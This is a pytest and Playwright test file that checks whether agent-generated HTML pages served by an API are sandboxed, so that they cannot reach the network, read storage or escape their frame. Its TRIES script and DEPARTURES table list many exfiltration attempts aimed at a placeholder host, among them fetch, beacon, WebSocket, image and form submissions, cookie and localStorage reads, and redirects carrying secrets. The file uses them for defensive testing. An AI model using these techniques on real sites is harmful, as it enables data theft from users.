"""Pages that agents made, in a real browser: whatever they try, they reach nothing."""

import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page

from recursor.runner.port import listen
from recursor.storage.store import Store
from recursor.storage.tables import ARTIFACTS, STACKS
from recursor.web.app import make_app
from recursor.web.engine import Engine
from recursor.web.server import WebServer
from tests.browsing import PATIENCE
from tests.making import STACK, make_artifact, make_stack
from tests.storing import put_all

WHERE = f"/api/stacks/{STACK}/artifacts/newest/page"

# What a page tries at once. Each is harmless to the page itself, so that the others come after it.
TRIES = """
const outside = 'http://OUTSIDE', inside = location.origin === 'null' ? 'http://INSIDE' : location.origin;
const refused = {};
const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
const attempt = (name, what) => {
    try { Promise.resolve(what()).catch(() => { refused[name] = true; }); }
    catch { refused[name] = true; }
};
const everything = () => new Promise(done => {
    for (const base of [outside, inside + '/api/stolen']) {
        attempt('fetch', () => fetch(base + '/fetch'));
        attempt('blind post', () => fetch(base + '/post', {method: 'POST', mode: 'no-cors', body: '{}'}));
        attempt('beacon', () => navigator.sendBeacon(base + '/beacon', 'x'));
        attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', base + '/xhr'); x.send(); });
        attempt('event source', () => new EventSource(base + '/events'));
        attempt('socket', () => new WebSocket(base.replace('http', 'ws') + '/socket'));
        attempt('img', () => add('img', {src: base + '/img'}));
        attempt('script', () => add('script', {src: base + '/script'}));
        attempt('module', () => import(base + '/module'));
        attempt('style', () => add('link', {rel: 'stylesheet', href: base + '/style'}));
        attempt('css', () => add('style', {textContent: `body{background:url(${base}/css)}`}));
        attempt('font', () => add('style', {
            textContent: `@font-face{font-family:f;src:url(${base}/font)} body{font-family:f}`}));
        attempt('frame', () => add('iframe', {src: base + '/frame'}));
        attempt('object', () => add('object', {data: base + '/object'}));
        attempt('embed', () => add('embed', {src: base + '/embed'}));
        attempt('video', () => add('video', {src: base + '/video', autoplay: true}));
        for (const rel of ['prefetch', 'preload', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload'])
            attempt(rel, () => add('link', {rel, href: base + '/' + rel, as: 'script'}));
        attempt('window', () => { if (!window.open(base + '/window')) throw 0; });
        attempt('ping', () => { const a = document.createElement('a');
            Object.assign(a, {href: '#x', ping: base + '/ping'}); document.body.append(a); a.click(); });
        attempt('form elsewhere', () => { const f = document.createElement('form');
            Object.assign(f, {action: base + '/form', method: 'POST', target: '_blank'});
            document.body.append(f); f.submit(); });
        attempt('worker', () => new Worker(URL.createObjectURL(new Blob(
            [`fetch('${base}/worker')`], {type: 'text/javascript'}))));
        attempt('inner page', () => add('iframe', {srcdoc:
            `<img src='${base}/inner'><script>fetch('${base}/inner')</` + `script>`}));
        attempt('top', () => { top.location = base + '/top'; });
        attempt('parent', () => { parent.location = base + '/parent'; });
        attempt('speculation', () => add('script', {type: 'speculationrules',
            textContent: JSON.stringify({prefetch: [{source: 'list', urls: [base + '/speculation']}]})}));
    }
    attempt('storage', () => localStorage.getItem('secret'));
    attempt('session', () => sessionStorage.getItem('secret'));
    attempt('cookie', () => document.cookie);
    attempt('database', () => indexedDB.open('x'));
    attempt('parent storage', () => parent.localStorage.secret);
    attempt('parent page', () => parent.document.body);
    attempt('top page', () => top.document.body);
    attempt('service worker', () => navigator.serviceWorker.register(inside + '/worker.js'));
    attempt('caches', () => caches.open('x'));
    setTimeout(() => done(refused), 1500);
});
"""

# What ends the page, if it comes about: each is a page of its own.
DEPARTURES = {
    "location": "location.href = 'http://OUTSIDE/location?secret';",
    "replace": "location.replace('http://OUTSIDE/replace?secret');",
    "meta": "document.write('<meta http-equiv=refresh content=\"0;url=http://OUTSIDE/meta?secret\">');",
    "link": "document.write('<a id=a href=\"http://OUTSIDE/link?secret\">x</a>'); a.click();",
    "to the top": "document.write('<a id=a target=_top href=\"http://OUTSIDE/link\">x</a>'); a.click();",
    "form": "document.write('<form id=f action=\"http://OUTSIDE/form\"><input name=q value=1></form>');"
    "f.submit();",
    "download": "document.write('<a id=a download href=\"http://OUTSIDE/download\">x</a>'); a.click();",
    "the API": "location.href = 'http://INSIDE/api/stolen';",
    "another page of the API": "location.href = 'http://INSIDE/api/stacks';",
}


@dataclass
class Outside:
    """The network: everything that connects to it is a leak."""

    leaks: list[str] = field(default_factory=list)

    def __enter__(self) -> "Outside":
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._accept)
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        # What it waits for comes: an end.
        with socket.create_connection(self._listener.getsockname()) as end:
            end.sendall(b"END")
            self._thread.join()
        self._listener.close()

    def _accept(self) -> None:
        while True:
            connection, _ = self._listener.accept()
            with connection:
                connection.settimeout(5)
                try:
                    said = connection.recv(1000)
                except OSError:
                    said = b"(nothing)"
            if said == b"END":
                return
            self.leaks.append(said.decode(errors="replace").partition("\r\n")[0] or "(connected)")


@dataclass
class Site:
    """The API with a page of ours, and what was asked of it."""

    store: Store
    url: str
    outside: Outside
    asked: list[str]

    def publish(self, script: str) -> None:
        """Make the newest artifact a page with this script."""
        script = script.replace("OUTSIDE", self.outside.address)
        script = script.replace("INSIDE", self.url.removeprefix("http://"))
        content = f"<!doctype html><body><h1>Harmless</h1><script>{script}</script></body>"
        put_all(self.store, lambda writer: ARTIFACTS.put(writer, make_artifact(1, content=content)))

    @property
    def leaks(self) -> list[str]:
        """What reached the network, or anything of the API but the page and its frame."""
        stolen = [path for path in self.asked if path not in (WHERE, "/parent", "/favicon.ico")]
        return self.outside.leaks + stolen


@pytest.fixture
def site(store: Store, engine: Engine) -> Iterator[Site]:
    put_all(store, lambda writer: STACKS.add(writer, make_stack()))
    asked: list[str] = []
    with Outside() as outside, closing(listen(0)) as listener:
        port = listener.getsockname()[1]
        app = make_app(engine, port)

        async def recording(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] == "http":
                asked.append(scope["path"])
            await app(scope, receive, send)

        server = WebServer(recording, listener)
        server.start()
        yield Site(store, f"http://127.0.0.1:{port}", outside, asked)
        server.stop()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    yield page
    context.close()


def framed(page: Page) -> Frame:
    """The frame that an artifact's page is shown in."""
    page.locator("iframe").wait_for()
    frame = page.frames[1]
    frame.get_by_role("heading", name="Harmless").wait_for()
    return frame


def test_a_page_runs_its_own_scripts_and_reaches_nothing(site: Site, page: Page) -> None:
    site.publish(f"{TRIES} window.ready = true;")
    page.goto(site.url + WHERE)
    page.evaluate("localStorage.setItem('secret', 'mine')")
    frame = framed(page)
    assert frame.evaluate("window.ready") is True
    refused = frame.evaluate("everything()")
    assert site.leaks == []
    for name in (
        "fetch",
        "storage",
        "session",
        "cookie",
        "parent storage",
        "parent page",
        "top page",
        "window",
    ):
        assert refused.get(name), f"{name} was not refused"
    assert page.url == site.url + WHERE
    assert page.evaluate("localStorage.getItem('secret')") == "mine"
    assert len(page.context.pages) == 1


@pytest.mark.parametrize("way", DEPARTURES)
def test_a_page_cannot_go_elsewhere(site: Site, page: Page, way: str) -> None:
    site.publish(f"setTimeout(() => {{ window.left = true; {DEPARTURES[way]} }}, 50);")
    page.goto(site.url + WHERE)
    page.locator("iframe").wait_for()
    page.wait_for_timeout(1000)
    assert page.url == site.url + WHERE
    assert site.leaks == []


def test_no_other_site_may_frame_it(site: Site, page: Page) -> None:
    site.publish("window.ready = true;")
    page.set_content(f'<iframe src="{site.url}{WHERE}"></iframe>')
    page.locator("iframe").wait_for()
    page.wait_for_timeout(500)
    assert all(frame.url != site.url + WHERE or not frame.query_selector("h1") for frame in page.frames)


def test_what_a_page_may_do_it_does(site: Site, page: Page) -> None:
    site.publish(
        """
        document.body.insertAdjacentHTML('beforeend', `<style>h1 {color: rgb(1, 2, 3)}</style>
            <form onsubmit="event.preventDefault(); document.title = 'sent'"><button>Send</button></form>
            <img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACADs=">`);
        """
    )
    page.goto(site.url + WHERE)
    frame = framed(page)
    frame.get_by_role("button", name="Send").click()
    assert frame.evaluate("document.title") == "sent"
    assert frame.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
    assert frame.evaluate("document.querySelector('img').naturalWidth") == 1
